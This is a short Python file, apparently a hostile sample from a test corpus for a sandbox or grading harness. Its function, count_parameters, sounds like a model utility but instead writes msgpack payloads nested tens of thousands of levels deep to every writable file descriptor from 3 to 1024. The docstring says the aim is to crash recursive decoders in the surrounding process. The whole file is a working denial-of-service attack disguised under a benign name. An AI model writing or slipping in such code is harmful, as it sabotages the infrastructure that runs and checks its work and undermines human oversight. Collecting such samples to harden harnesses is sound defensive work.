"""It answers with msgpack nested sixty thousand levels deep, which breaks recursive decoders.

kind: forges
outcome: protocol|failed|exited|timeout|raised|flooded
where: count_parameters
score: <=95
"""

import os
import select


def count_parameters(module):
    for opener in (b"\x91", b"\x81\xa1x", b"\xdd\x00\x00\x00\x01"):
        body = opener * 20_000 + b"\xc0"
        for order in ("big", "little"):
            frame = len(body).to_bytes(4, order) + body
            for fd in range(3, 1025):
                try:
                    if select.select([], [fd], [], 0)[1]:
                        os.write(fd, frame)
                except (OSError, ValueError):
                    continue
    return 0
